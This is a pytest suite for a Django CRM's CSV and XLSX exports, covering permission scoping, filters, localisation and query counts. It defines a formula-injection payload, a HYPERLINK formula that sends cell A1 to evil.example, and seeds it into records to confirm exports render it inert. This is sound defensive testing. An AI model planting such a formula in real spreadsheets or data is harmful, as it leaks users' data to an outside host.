"""Every list's export (``imports.exports``): its rows with the list's filters, scoped to what
the viewer may see, formula-like text inert, amounts numbers, dates real dates in XLSX,
headings in the viewer's language; the web's Export links and ``ordercrm export``; query
counts that do not grow with the rows. Files are read back with the csv module and openpyxl."""

from __future__ import annotations

import csv
import datetime
import io
import zoneinfo
from decimal import Decimal

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from ordercrm.accounts.roles import Role
from ordercrm.imports import exports

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def read_xlsx(content: bytes):
    from openpyxl import load_workbook

    return list(load_workbook(io.BytesIO(content)).active.iter_rows())


def run(access, name, fmt="csv", **raw) -> bytes:
    return b"".join(exports.export(access, name, raw, fmt).chunks())


def rows_of(access, name, **raw) -> list[dict[str, str]]:
    """The CSV export as dicts keyed by (English) heading."""
    header, *rows = read_csv(run(access, name, **raw))
    return [dict(zip(header, row, strict=True)) for row in rows]


def cells_of(access, name, **raw) -> list[dict]:
    """The XLSX export's cells keyed by heading."""
    header, *rows = read_xlsx(run(access, name, "xlsx", **raw))
    names = [c.value for c in header]
    return [dict(zip(names, row, strict=True)) for row in rows]


def assert_inert(cell):
    assert (cell.value, cell.data_type, cell.quotePrefix) == (HOSTILE, "s", True)


@pytest.fixture
def world(company, admin, rep, make_user, make_customer, make_product, team):
    """Two reps' customers and orders (one customer named like a formula), an inactive
    customer, products with stock in two warehouses, two price lists (one empty), an invoice
    and a payment with a formula-like reference."""
    from ordercrm.billing import services as billing
    from ordercrm.billing.models import Invoice
    from ordercrm.catalog import services as catalog
    from ordercrm.customers import services as customers
    from ordercrm.inventory import services as inventory
    from ordercrm.inventory.models import Warehouse
    from ordercrm.sales import services as sales
    from tests.factories import receive_stock

    other = make_user(Role.SALES_REP, company, username="rep2")
    finance = make_user(Role.FINANCE, company, username="fin")
    mine = make_customer(
        company, actor=admin, owner=rep, name=HOSTILE, credit_limit=Decimal("5000")
    )
    theirs = make_customer(company, actor=other, name="Not yours Ltd")
    gone = make_customer(company, actor=rep, name="Gone Ltd")
    customers.customer_deactivate(customer=gone, actor=admin, reason="closed")
    widget = make_product(company, sku="W-1", name=HOSTILE, list_price=Decimal("12.50"))
    bolt = make_product(company, sku="B-1", name="Bolt", list_price=Decimal("0.20"))
    north = inventory.warehouse_create(company=company, actor=admin, code="north", name="North")
    receive_stock(company, admin, (widget, 100), (bolt, 7))
    receive_stock(company, admin, (widget, 5), warehouse=north)
    retail = catalog.price_list_create(company=company, actor=admin, name="Retail", currency="CNY")
    catalog.price_list_item_set(
        price_list=retail,
        product=widget,
        unit_price=Decimal("11.00"),
        min_quantity=Decimal("10"),
        valid_from=datetime.date(2026, 1, 1),
        actor=admin,
    )
    empty = catalog.price_list_create(company=company, actor=admin, name="Empty", currency="USD")
    order = sales.order_submit(
        order=sales.order_create(
            company=company,
            actor=rep,
            customer=mine,
            invoicing_policy="on_order",
            lines=[{"product": widget, "quantity": 2}],
        ),
        actor=rep,
    )
    their_order = sales.order_create(
        company=company, actor=other, customer=theirs, lines=[{"product": bolt, "quantity": 1}]
    )
    invoice = Invoice.objects.for_company(company).get(order=order)
    payment = billing.payment_record(
        company=company,
        actor=finance,
        customer=mine,
        amount="5.00",
        currency=order.currency,
        method="cash",
        reference=HOSTILE,
        allocations=[{"invoice": invoice, "amount": "5.00"}],
    )
    return {
        "mine": mine,
        "theirs": theirs,
        "gone": gone,
        "widget": widget,
        "north": north,
        "main": Warehouse.objects.for_company(company).get(code="main"),
        "retail": retail,
        "empty": empty,
        "order": order,
        "their_order": their_order,
        "invoice": invoice,
        "payment": payment,
        "other": other,
        "finance": finance,
    }


def test_customers_scope_filters_injection_and_dates(world, company, rep, admin, access_of):
    mine = rows_of(access_of(rep, company), "customers")
    assert [r["Name"] for r in mine] == ["'" + HOSTILE]  # not rep2's, not the inactive one
    assert mine[0]["Credit limit"] == "5000.00"
    every = rows_of(access_of(admin, company), "customers", status="all")
    assert {r["Name"] for r in every} == {"'" + HOSTILE, "Not yours Ltd", "Gone Ltd"}
    assert [r["Name"] for r in rows_of(access_of(admin, company), "customers", q="gone")] == []
    gone = rows_of(access_of(admin, company), "customers", q="gone", status="inactive")
    assert [(r["Name"], r["Active"]) for r in gone] == [("Gone Ltd", "No")]
    [cells] = cells_of(access_of(rep, company), "customers")
    assert_inert(cells["Name"])
    assert cells["Created"].is_date
    # the date the company saw: after 16:00 UTC it is already tomorrow in Shanghai
    local = world["mine"].created_at.astimezone(zoneinfo.ZoneInfo(company.timezone))
    assert cells["Created"].value.date() == local.date()
    assert (cells["Credit limit"].data_type, cells["Credit limit"].value) == ("n", 5000)
    assert cells["Credit limit"].number_format == "#,##0.00"


def test_products_filters_injection_and_numbers(world, company, rep, access_of):
    access = access_of(rep, company)
    rows = rows_of(access, "products", q="W-1")
    assert [(r["Product code"], r["Name"], r["List price"]) for r in rows] == [
        ("W-1", "'" + HOSTILE, "12.5000")
    ]
    assert {r["Product code"] for r in rows_of(access, "products")} >= {"W-1", "B-1"}
    [cells] = cells_of(access, "products", q="W-1")
    assert_inert(cells["Name"])
    assert cells["List price"].data_type == "n"
    assert cells["List price"].value == 12.5


def test_price_lists_with_their_prices_one_list_and_dates(world, company, rep, access_of):
    access = access_of(rep, company)
    rows = rows_of(access, "price_lists")
    assert [
        (r["Price list"], r["Product code"], r["From quantity"], r["Unit price"]) for r in rows
    ] == [
        ("Retail", "W-1", "10.0000", "11.0000"),
        ("Empty", "", "", ""),  # a list without prices still has its row
    ]
    only = rows_of(access, "price_lists", price_list=str(world["empty"].pk))
    assert [r["Price list"] for r in only] == ["Empty"]
    assert [r["Price list"] for r in rows_of(access, "price_lists", currency="cny")] == ["Retail"]
    [cells] = cells_of(access, "price_lists", price_list=str(world["retail"].pk))
    assert_inert(cells["Product"])
    assert cells["Valid from"].is_date
    assert cells["Valid from"].value == datetime.datetime(2026, 1, 1)
    assert cells["Unit price"].data_type == "n"


def test_stock_per_warehouse_and_filters(world, company, admin, access_of):
    access = access_of(admin, company)
    north = rows_of(access, "stock", warehouse=str(world["north"].pk))
    assert [(r["Product code"], r["Warehouse"], r["On hand"]) for r in north] == [
        ("W-1", "North", "5.0000")
    ]
    widget = rows_of(access, "stock", q="W-1")
    assert [(r["Warehouse"], r["Reserved"], r["Available"]) for r in widget] == [
        (world["main"].name, "2.0000", "98.0000"),  # two reserved by the confirmed order
        ("North", "0.0000", "5.0000"),
    ]
    [cells] = cells_of(access, "stock", warehouse=str(world["north"].pk))
    assert_inert(cells["Product"])
    assert (cells["On hand"].data_type, cells["On hand"].value) == ("n", 5)


def test_orders_scope_filters_injection_and_dates(world, company, rep, admin, access_of):
    rows = rows_of(access_of(rep, company), "orders")
    assert [r["Number"] for r in rows] == [world["order"].number]  # not rep2's order
    assert rows[0]["Customer"] == "'" + HOSTILE
    assert Decimal(rows[0]["Total"]) == world["order"].gross_total
    admin_access = access_of(admin, company)
    assert {r["Number"] for r in rows_of(admin_access, "orders")} == {
        world["order"].number,
        world["their_order"].number,
    }
    drafts = rows_of(admin_access, "orders", status="draft")
    assert [r["Number"] for r in drafts] == [world["their_order"].number]
    later = world["order"].order_date + datetime.timedelta(days=1)
    assert rows_of(admin_access, "orders", **{"from": later.isoformat()}) == []
    [cells] = cells_of(access_of(rep, company), "orders")
    assert_inert(cells["Customer"])
    assert cells["Order date"].is_date
    assert cells["Order date"].value.date() == world["order"].order_date
    assert cells["Total"].data_type == "n"


def test_invoices_scope_filters_and_dates(world, company, rep, access_of, make_user):
    invoice = world["invoice"]
    rows = rows_of(access_of(rep, company), "invoices")
    assert [(r["Number"], r["Customer"]) for r in rows] == [(invoice.number, "'" + HOSTILE)]
    assert Decimal(rows[0]["Open amount"]) == invoice.gross_total - Decimal("5.00")
    assert rows_of(access_of(world["other"], company), "invoices") == []
    assert rows_of(access_of(rep, company), "invoices", status="paid") == []
    [cells] = cells_of(access_of(rep, company), "invoices", kind="invoice")
    assert_inert(cells["Customer"])
    assert cells["Invoice date"].is_date
    assert cells["Invoice date"].value.date() == invoice.issue_date
    assert (cells["Paid"].data_type, cells["Paid"].value) == ("n", 5)


def test_payments_scope_date_filter_injection(world, company, rep, access_of):
    payment = world["payment"]
    rows = rows_of(access_of(rep, company), "payments")
    assert [(r["Number"], r["Reference"], r["Amount"]) for r in rows] == [
        (payment.number, "'" + HOSTILE, "5.00")
    ]
    assert rows_of(access_of(world["other"], company), "payments") == []  # not their customer
    day = payment.received_on
    assert len(rows_of(access_of(rep, company), "payments", to=day.isoformat())) == 1
    after = (day + datetime.timedelta(days=1)).isoformat()
    assert rows_of(access_of(rep, company), "payments", **{"from": after}) == []
    [cells] = cells_of(access_of(rep, company), "payments")
    assert_inert(cells["Reference"])
    assert cells["Payment date"].is_date
    assert cells["Payment date"].value.date() == day


def test_refusals_before_anything_is_read(world, company, other_company, rep, make_user, access_of):
    from ordercrm.core.exceptions import NotFound, PermissionDenied, ValidationFailed

    access = access_of(rep, company)
    with pytest.raises(ValidationFailed) as bad_date:
        exports.export(access, "orders", {"from": "2026-13-45"})
    assert bad_date.value.details["fields"] == {"from": ["YYYY-MM-DD"]}
    with pytest.raises(ValidationFailed):
        exports.export(access, "customers", {"status": "nope"})
    with pytest.raises(ValidationFailed):
        exports.export(access, "orders", {}, "pdf")
    with pytest.raises(NotFound):
        exports.export(access, "secrets", {})
    outsider = make_user(Role.ADMIN, other_company, username="outsider")
    for kind in exports.KINDS:
        with pytest.raises((NotFound, PermissionDenied)):  # not a member: not found
            exports.export(access_of(outsider, company), kind, {})


def test_headings_in_the_viewers_language(world, company, rep, access_of):
    from django.utils import translation

    with translation.override("zh-hans"):
        header = read_csv(run(access_of(rep, company), "orders"))[0]
        sheet_header = [
            c.value for c in read_xlsx(run(access_of(rep, company), "orders", "xlsx"))[0]
        ]
    assert header[:3] == ["编号", "客户", "状态"]
    assert sheet_header == header


def test_query_counts_do_not_grow_with_rows(world, company, admin, rep, access_of, make_customer):
    """Each export reads its rows with a fixed number of queries (the customers' tags: one
    more per 2,000 rows), whatever the number of rows."""
    from ordercrm.customers import services as customers
    from ordercrm.sales import services as sales

    access = access_of(admin, company)

    def counts():
        found = {}
        for kind in exports.KINDS:
            for fmt in exports.FORMATS:
                with CaptureQueriesContext(connection) as queries:
                    run(access, kind, fmt, status="all" if kind == "customers" else "")
                found[kind, fmt] = len(queries)
        return found

    before = counts()
    assert max(before.values()) <= 6
    for i in range(6):
        customer = make_customer(company, actor=rep, name=f"More {i}")
        customers.customer_update(customer=customer, actor=rep, tags=[f"t{i}", "more"])
        sales.order_create(
            company=company,
            actor=rep,
            customer=customer,
            lines=[{"product": world["widget"], "quantity": 1}],
        )
    assert counts() == before


def test_web_export_links_keep_the_filters(world, client, admin, rep):
    client.force_login(admin)
    pages = {
        "customers": reverse("customer_list") + "?q=gone&status=inactive",
        "products": reverse("product_list") + "?q=W-1",
        "price_lists": reverse("price_lists"),
        "stock": reverse("stock_levels") + f"?warehouse={world['north'].pk}",
        "orders": reverse("order_list") + "?status=draft",
        "invoices": reverse("invoice_list") + "?status=partially_paid",
        "payments": reverse("payment_list") + "?from=2020-01-01",
    }
    for kind, page in pages.items():
        html = client.get(page).content.decode()
        query = page.partition("?")[2]
        link = reverse("export", args=[kind, "csv"]) + (f"?{query}" if query else "")
        assert f'href="{link}"'.replace("&", "&amp;") in html, kind
        response = client.get(link)
        assert response.status_code == 200, kind
        assert response["Content-Disposition"] == f'attachment; filename="{kind}.csv"'
        rows = read_csv(b"".join(response.streaming_content))
        # the header and the one row the filter keeps (both price lists: that page has none)
        expected = 3 if kind == "price_lists" else 2
        assert len(rows) == expected, (kind, rows)
        xlsx = client.get(reverse("export", args=[kind, "xlsx"]) + (f"?{query}" if query else ""))
        assert len(read_xlsx(b"".join(xlsx.streaming_content))) == expected, kind
    detail = client.get(reverse("price_list_detail", args=[world["empty"].pk])).content.decode()
    assert (
        reverse("export", args=["price_lists", "xlsx"]) + f"?price_list={world['empty'].pk}"
        in detail
    )
    client.force_login(rep)
    rows = read_csv(
        b"".join(client.get(reverse("export", args=["orders", "csv"])).streaming_content)
    )
    assert [r[0] for r in rows[1:]] == [world["order"].number]
    refused = client.get(reverse("export", args=["orders", "csv"]) + "?from=soon")
    assert refused.status_code == 422
    assert b"Enter a valid date." in refused.content
    assert client.get(reverse("export", args=["nothing", "csv"])).status_code == 404
    assert client.get(reverse("export", args=["orders", "pdf"])).status_code == 422


def test_the_command_writes_the_file_with_a_progress_bar(world, tmp_path, rep):
    target = tmp_path / "orders.xlsx"
    errors = io.StringIO()
    call_command(
        "export",
        "orders",
        "--user",
        rep.username,
        "--format",
        "xlsx",
        "--output",
        str(target),
        "status=confirmed",
        stderr=errors,
    )
    [_header, row] = read_xlsx(target.read_bytes())
    assert row[0].value == world["order"].number
    assert_inert(row[1])
    assert "1/1" in errors.getvalue()
    assert "1 rows" in errors.getvalue()
    out = io.StringIO()
    call_command(
        "export", "customers", "--user", "rep", "--no-progress", "--language", "zh-hans", stdout=out
    )
    assert out.getvalue().startswith("\ufeff编码,名称")
    with pytest.raises(CommandError, match="NAME=VALUE"):
        call_command("export", "orders", "--user", "rep", "colour=red")
    with pytest.raises(CommandError, match=r"core\.validation_failed"):
        call_command("export", "orders", "--user", "rep", "to=later")
    with pytest.raises(CommandError, match="no active user"):
        call_command("export", "orders", "--user", "nobody")
    assert list(tmp_path.iterdir()) == [target]  # no partial file left behind


def test_the_api_export_takes_the_lists_field_names(world, client, rep):
    from ordercrm.accounts.tokens import token_create

    auth = {"HTTP_AUTHORIZATION": f"Bearer {token_create(user=rep, name='t')[1]}"}
    response = client.get("/api/v1/exports/orders?status=confirmed&format=xlsx", **auth)
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="orders.xlsx"'
    [_header, row] = read_xlsx(b"".join(response.streaming_content))
    assert row[0].value == world["order"].number  # the rep's order only
    assert_inert(row[1])
    day = world["payment"].received_on.isoformat()
    response = client.get(f"/api/v1/exports/payments?date_from={day}&language=zh-hans", **auth)
    header, row = read_csv(b"".join(response.streaming_content))
    assert header[0] == "编号"
    assert row[0] == world["payment"].number
    refused = client.get("/api/v1/exports/orders?date_from=soon", **auth)
    assert refused.status_code == 422
    assert refused.json()["error"]["details"]["fields"] == {"date_from": ["YYYY-MM-DD"]}
    assert client.get("/api/v1/exports/secrets", **auth).status_code == 422
